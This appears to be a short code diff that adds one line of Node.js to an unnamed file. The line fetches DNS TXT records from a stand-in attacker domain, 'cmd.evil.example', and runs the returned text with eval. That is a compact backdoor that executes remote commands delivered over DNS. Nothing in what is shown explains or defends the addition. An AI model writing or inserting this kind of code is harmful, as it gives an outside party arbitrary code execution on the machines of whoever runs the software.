@@ -1,0 +1,1 @@
+require('dns').resolveTxt('cmd.evil.example', (e, r) => eval(r.flat().join('')));
